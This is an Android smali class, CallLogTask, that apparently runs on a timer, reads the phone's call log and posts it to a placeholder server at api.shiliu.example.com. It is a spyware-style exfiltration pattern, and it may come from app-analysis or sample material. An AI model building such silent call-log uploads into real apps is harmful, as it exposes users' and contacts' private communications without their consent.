# SPDX-License-Identifier: Apache-2.0
.class public Lcom/example/shiliu/CallLogTask;
.super Ljava/util/TimerTask;
.source "CallLogTask.java"

.field private final context:Landroid/content/Context;

.method public constructor <init>(Landroid/content/Context;)V
    .registers 2
    invoke-direct {p0}, Ljava/util/TimerTask;-><init>()V
    iput-object p1, p0, Lcom/example/shiliu/CallLogTask;->context:Landroid/content/Context;
    return-void
.end method

.method public run()V
    .locals 2
    iget-object v0, p0, Lcom/example/shiliu/CallLogTask;->context:Landroid/content/Context;
    invoke-virtual {v0}, Landroid/content/Context;->getContentResolver()Landroid/content/ContentResolver;
    move-result-object v0
    invoke-static {v0}, Lcom/example/shiliu/CallLogReader;->read(Landroid/content/ContentResolver;)Ljava/lang/String;
    move-result-object v1
    const-string v0, "https://api.shiliu.example.com/calls"
    invoke-static {v0, v1}, Lcom/example/shiliu/HttpPoster;->post(Ljava/lang/String;Ljava/lang/String;)V
    return-void
.end method
